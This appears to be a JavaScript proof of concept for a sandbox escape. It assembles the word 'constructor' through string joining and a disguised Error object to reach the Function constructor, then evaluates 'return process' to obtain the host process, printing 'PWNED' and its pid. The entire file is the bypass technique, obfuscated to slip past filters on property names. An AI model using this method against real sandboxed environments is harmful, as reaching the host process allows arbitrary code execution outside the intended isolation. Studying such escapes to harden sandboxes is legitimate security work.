'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const o = Object.setPrototypeOf({ name: w, message: '' }, new Error(''));
console.log('PWNED', fn[String(o)]('return process')().pid);
